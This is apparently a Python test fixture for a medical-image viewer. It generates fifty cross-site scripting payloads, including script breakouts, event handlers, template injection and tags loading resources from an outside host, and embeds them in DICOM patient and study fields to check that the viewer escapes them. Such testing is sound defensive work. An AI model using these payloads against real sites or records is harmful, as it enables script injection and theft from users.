"""Fifty ways to smuggle script into text, each setting window.hit or asking a foreign host."""

# ruff: noqa: E501  # one payload after the other, as it is

from pathlib import Path

from tests.viewer.images import STUDY, an_image

_HIT = "window.hit=1"
_HOST = "http://192.0.2.1"
_HANDLERS = (
    "<img src=x onerror={hit}>", "<svg onload={hit}>", "<body onload={hit}>",
    "<input autofocus onfocus={hit}>", "<details open ontoggle={hit}>", "<video src=x onerror={hit}>",
    "<audio src=x onerror={hit}>", "<marquee onstart={hit}>", "<select autofocus onfocus={hit}>",
    "<object data=x onerror={hit}>", "<style onload={hit}></style>", "<iframe onload={hit}>",
    "<svg><animate onbegin={hit} attributeName=x dur=1s>", "<img src=x ONERROR={hit}>",
    "<p onpointerover={hit}>x", "<a href=# autofocus onfocus={hit}>x",
)  # fmt: skip
_SCRIPTS = (
    "<script>{hit}</script>", "<ScRiPt>{hit}</sCrIpT>", "<script src=//192.0.2.1/x.js></script>",
    "</script><script>{hit}</script>", "</title><script>{hit}</script>", "<svg><script>{hit}</script>",
    "</textarea><script>{hit}</script>", "<!--><script>{hit}</script>-->", "]]><script>{hit}</script>",
    "<math><mtext><script>{hit}</script>", "<noscript><p title='</noscript><script>{hit}</script>'>",
    "<template><script>{hit}</script></template>", "<script>{hit}//", "<script/x>{hit}</script>",
    "<iframe srcdoc='<script>parent.hit=1</script>'>",
    "<iframe src='javascript:parent.hit=1'>", "<script\x0c>{hit}</script>",
)  # fmt: skip
_QUOTES = (
    '"><img src=x onerror={hit}>', "'><img src=x onerror={hit}>", "'-{hit}-'", '"-{hit}-"',
    "javascript:{hit}", "java\tscript:{hit}", "${{{hit}}}", "`${{{hit}}}`",
    "{{{{constructor.constructor('{hit}')()}}}}", "%3Cscript%3E{hit}%3C/script%3E",
    "&lt;script&gt;{hit}&lt;/script&gt;",
)  # fmt: skip
_FETCHES = (
    "<link rel=stylesheet href={host}/x.css>", "<img src={host}/x.png>",
    "<form action={host}><button autofocus>", "<base href={host}/>",
    "<meta http-equiv=refresh content='0;url={host}'>", "<style>@import '{host}/x.css'</style>",
)  # fmt: skip

PAYLOADS = [
    text.format(hit=_HIT, host=_HOST) for text in (*_SCRIPTS, *_HANDLERS, *_QUOTES, *_FETCHES)
]
assert len(PAYLOADS) == len(set(PAYLOADS)) == 50, len(PAYLOADS)


def tainted_series(folder: Path, number: int, study: str = STUDY) -> list[Path]:
    """Write one image whose texts are all the payload ``number``; a series of its own."""
    text = PAYLOADS[number]
    tags = ("PatientID", "PatientComments", "StudyDescription", "SeriesDescription",
            "InstitutionName", "ReferringPhysicianName", "ProtocolName", "StationName",
            "Manufacturer", "ManufacturerModelName", "BodyPartExamined", "AccessionNumber",
            "StudyID", "ImageComments", "PatientAge", "SeriesDate")  # fmt: skip
    series = f"{study}.{100 + number}"
    texts = dict.fromkeys(tags, text)
    image = an_image(folder, number + 1, study=study, series=series, tilt=0, name=text, **texts)
    return [image]
